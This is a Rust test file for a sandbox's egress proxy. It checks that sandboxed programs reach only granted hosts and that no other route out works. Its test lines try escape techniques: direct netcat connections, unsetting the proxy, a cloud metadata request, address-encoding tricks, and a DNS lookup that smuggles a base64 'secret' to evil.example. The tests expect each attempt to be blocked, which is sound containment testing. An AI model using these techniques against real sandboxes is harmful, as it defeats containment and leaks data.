//! Real sandboxes with a way out: what they reach through the proxy, and that there is no other.

use std::collections::BTreeMap;
use std::fs;
use std::io::Read as _;
use std::net::TcpListener;
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::os::unix::process::CommandExt as _;
use std::process::{Command, Stdio};
use std::thread;
use std::time::{Duration, Instant};

use perry_sandbox_profiles::SeccompProfile;
use perry_sandbox_testkit::again_as_ordinary;
use perry_sandbox_testkit::outside::greeter;

use super::super::recorder::Recorder;
use super::super::settings::Settings;
use super::super::spec::Spec;
use super::super::steps::Step;
use super::attacks::{root_with_checker, spec_of};
use super::changed;
use super::rootfs::{busybox, settings};
use super::*;
use crate::egress::{EgressReason, EgressUse, Grants};
use crate::outcome::End;

pub(super) fn granted(patterns: &[String], line: &str) -> Settings {
    let egress = Grants::try_from(patterns.to_vec()).unwrap();
    let proxy =
        ["http_proxy", "https_proxy"].map(|name| (name.to_owned(), "http://127.0.0.1:3128".to_owned()));
    let env = BTreeMap::from(proxy).into_iter().chain([("PATH".to_owned(), "/bin".to_owned())]).collect();
    Settings { env, egress, ..settings(&["/bin/sh", "-c", line]) }
}

pub(super) fn near(port: u16) -> Vec<String> {
    vec![format!("127.0.0.1:{port}"), "a.example:443".to_owned()]
}

fn said(settings: &Settings) -> (String, EgressUse) {
    let finished = sandbox(settings).unwrap();
    let text = String::from_utf8_lossy(&finished.stdout).into_owned();
    (text, finished.egress.unwrap_or_default())
}

/// A request to the proxy by hand, and the first line of its answer.
fn asks(to: &str) -> String {
    format!("printf 'CONNECT {to} HTTP/1.1\\r\\n\\r\\n' | busybox nc -w 5 127.0.0.1 3128 | head -n 1; ")
}

#[test]
fn a_granted_server_is_reached_through_the_proxy() {
    let port = greeter();
    let (text, used) =
        said(&granted(&near(port), &format!("busybox wget -q -O - http://127.0.0.1:{port}/x")));
    assert_eq!((text.as_str(), used.allowed, used.refused), ("hello\n", 1, 0), "{used:?}");
    let line =
        format!("printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\nGET' | busybox nc 127.0.0.1 3128");
    let (text, used) = said(&granted(&near(port), &line));
    assert!(
        text.contains("200 Connection established") && text.ends_with("hello\n") && used.allowed == 1,
        "{text}"
    );
}

#[test]
fn there_is_no_other_way_out() {
    let (port, other) = (greeter(), greeter());
    let name = format!("perry-egress-{}", std::process::id());
    let _listener = UnixListener::bind_addr(&SocketAddr::from_abstract_name(&name).unwrap()).unwrap();
    let direct =
        |host: &str, port: u16| format!("busybox nc -w 2 {host} {port} </dev/null && echo reached; ");
    let line = [
        direct("127.0.0.1", port),
        direct("127.0.0.1", other),
        direct("198.51.100.1", 80),
        format!("busybox nc -w 2 local:@{name} </dev/null && echo reached; "),
        "unset http_proxy; ".to_owned(),
        format!("busybox wget -T 2 -q -O - http://127.0.0.1:{port}/ && echo reached; "),
        "cat /proc/net/route | wc -l; busybox ifconfig -a | grep -c Link; ".to_owned(),
        asks(&format!("127.0.0.1:{other}")),
        asks("169.254.169.254:80"),
        asks("b.example:443"),
        asks(&format!("127.1:{port}")),
        asks(&format!("[::ffff:127.0.0.1]:{port}")),
    ]
    .concat();
    let (text, used) = said(&granted(&near(port), &line));
    let forbidden = "HTTP/1.1 403 Forbidden\r\n".repeat(3);
    let bad = "HTTP/1.1 400 Bad Request\r\n".repeat(2);
    assert_eq!(text, format!("1\n1\n{forbidden}{bad}"));
    assert_eq!((used.allowed, used.refused), (0, 5), "{used:?}");
    let not_granted = used.refusals.iter().filter(|refusal| refusal.reason == EgressReason::NotGranted);
    assert_eq!(not_granted.count(), 3);
}

#[test]
fn names_are_answered_inside_whatever_the_image_says() {
    let root = busybox();
    fs::write(root.path().join("etc/resolv.conf"), "nameserver 198.51.100.1\n").unwrap();
    let line = "cat /etc/resolv.conf; busybox nslookup a.example; busybox nslookup c2VjcmV0.evil.example";
    let finished = sandbox_in(root.path(), &granted(&near(1), line), Streams::captured(), None).unwrap();
    let text = String::from_utf8_lossy(&finished.stdout).into_owned();
    assert!(!text.contains("198.51.100.1"), "{text}");
    assert!(text.contains("Name:\ta.example") && text.contains("Address: 127.0.0.1\n"), "{text}");
    assert!(text.contains("NXDOMAIN"), "{text}");
    let used = finished.egress.unwrap();
    assert_eq!(used.refusals[0].to.as_deref(), Some("c2vjcmv0.evil.example"));
    // Without a grant the image's own file is seen.
    let plain = settings(&["/bin/cat", "/etc/resolv.conf"]);
    let finished = sandbox_in(root.path(), &plain, Streams::captured(), None).unwrap();
    assert_eq!(finished.stdout, b"nameserver 198.51.100.1\n");
}

#[test]
fn nothing_of_ours_is_open_inside_and_the_ports_are_taken() {
    let line = "ls /proc/self/fd; busybox nc -l -p 3128 -w 1 2>&1; busybox nc -u -l -p 53 -w 1 2>&1";
    let (text, _) = said(&granted(&near(1), line));
    // The fourth is the folder that is listed.
    assert!(text.starts_with("0\n1\n2\n3\n") && !text.contains("4\n"), "{text}");
    assert!(text.contains("bind: Address already in use"), "{text}");
}

#[test]
fn a_sandbox_without_a_grant_is_started_as_before_and_reaches_nobody() {
    let opens = |spec: &Spec| spec.steps.iter().any(|step| matches!(step, Step::OpenDoor));
    let with = spec_of(&granted(&near(1), "true"));
    let without = spec_of(&settings(&["/bin/sh", "-c", "true"]));
    assert!(opens(&with) && !opens(&without));
    assert_eq!(with.steps.len(), without.steps.len() + 1);
    let line = "busybox nc -w 2 127.0.0.1 3128 </dev/null || echo nobody";
    let finished = sandbox(&settings(&["/bin/sh", "-c", line])).unwrap();
    assert_eq!((finished.stdout.as_slice(), finished.egress), (&b"nobody\n"[..], None));
}

#[test]
fn sockets_that_nobody_asked_for_end_the_sandbox() {
    let spec = spec_of(&granted(&near(1), "true"));
    let (root, whole) = (busybox(), settings(&["/bin/sh", "-c", "echo ran"]));
    // As if a step had been put in: the supervision has no door for them.
    let at = spec.steps.iter().position(|step| matches!(step, Step::OpenDoor)).unwrap();
    let refused = std::panic::catch_unwind(|| {
        changed::ended(root.path(), &whole, None, |steps| steps.insert(at, Step::OpenDoor))
    });
    assert!(refused.is_err(), "the supervision says that it lost touch");
}

#[test]
fn a_recorded_run_has_the_same_way_out() {
    let port = greeter();
    let (root, live) = (busybox(), tempfile::tempdir().unwrap());
    let recorder = Recorder::new(SeccompProfile::builtin("perry-default").unwrap()).unwrap();
    let nowhere = without_cgroups();
    let place = Place { recorder: Some(&recorder), ..place(&nowhere, live.path()) };
    let settings = granted(&near(port), &format!("busybox wget -q -O - http://127.0.0.1:{port}/x"));
    let finished = run(&settings, &root_folder(root.path()), Streams::captured(), None, &place).unwrap();
    assert_eq!((finished.end, finished.stdout.as_slice()), (End::Exited(0), &b"hello\n"[..]));
    recorder.finish().unwrap();
}

#[test]
fn the_checker_finds_nothing_open_beside_the_way_out() {
    let Some(root) = root_with_checker() else { return };
    let mut settings = settings(&["/bin/checker", "pids=64"]);
    settings.egress = Grants::try_from(vec!["*:443".to_owned()]).unwrap();
    settings.argv.push(format!("port={}", greeter()));
    let finished = sandbox_in(root.path(), &settings, Streams::captured(), None).unwrap();
    let text = String::from_utf8_lossy(&finished.stdout).into_owned();
    let open: Vec<_> = text.lines().filter(|line| line.starts_with("open ")).collect();
    assert!(open.is_empty() && text.lines().filter(|line| line.starts_with("ok ")).count() > 100, "{open:?}");
}

#[test]
fn an_ordinary_user_gets_the_same_way_out() {
    for test in [
        "a_granted_server_is_reached_through_the_proxy",
        "there_is_no_other_way_out",
        "names_are_answered_inside_whatever_the_image_says",
        "nothing_of_ours_is_open_inside_and_the_ports_are_taken",
    ] {
        again_as_ordinary(&format!("native::tests::egress::{test}"));
    }
}

/// The name under which the next test starts a copy of this program.
const KILLED: &str = "runner-with-a-way-out";

/// Not a test of its own: what the killed runner of the next test does.
#[test]
fn runner_with_a_way_out() {
    if std::env::args().next().as_deref() != Some(KILLED) {
        return;
    }
    let port = std::env::args().find_map(|argument| argument.strip_prefix("port-")?.parse().ok()).unwrap();
    let line = format!(
        "(printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n'; sleep 60) | busybox nc 127.0.0.1 3128"
    );
    drop(sandbox(&granted(&near(port), &line)));
}

#[test]
fn the_way_out_is_gone_with_a_killed_runner() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let mut runner = Command::new(std::env::current_exe().unwrap())
        .arg0(KILLED)
        .args(["--exact", "native::tests::egress::runner_with_a_way_out"])
        .arg(format!("port-{}", listener.local_addr().unwrap().port()))
        .current_dir("/")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let (mut client, _) = listener.accept().unwrap();
    runner.kill().unwrap();
    runner.wait().unwrap();
    client.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
    assert!(matches!(client.read(&mut [0; 8]), Ok(0)), "the connection ends with the runner");
}

#[test]
fn the_way_out_is_gone_with_the_sandbox() {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let ends = thread::spawn(move || {
        let (mut client, _) = listener.accept().unwrap();
        client.set_read_timeout(Some(Duration::from_secs(30))).unwrap();
        matches!(client.read(&mut [0; 8]), Ok(0) | Err(_))
    });
    // The connection stays open behind the program's back.
    let line = format!(
        "(printf 'CONNECT 127.0.0.1:{port} HTTP/1.1\\r\\n\\r\\n'; sleep 60) | busybox nc 127.0.0.1 3128 & sleep 1"
    );
    let begun = Instant::now();
    let (_, used) = said(&granted(&near(port), &line));
    assert!(ends.join().unwrap() && used.allowed == 1 && begun.elapsed() < Duration::from_secs(30));
}
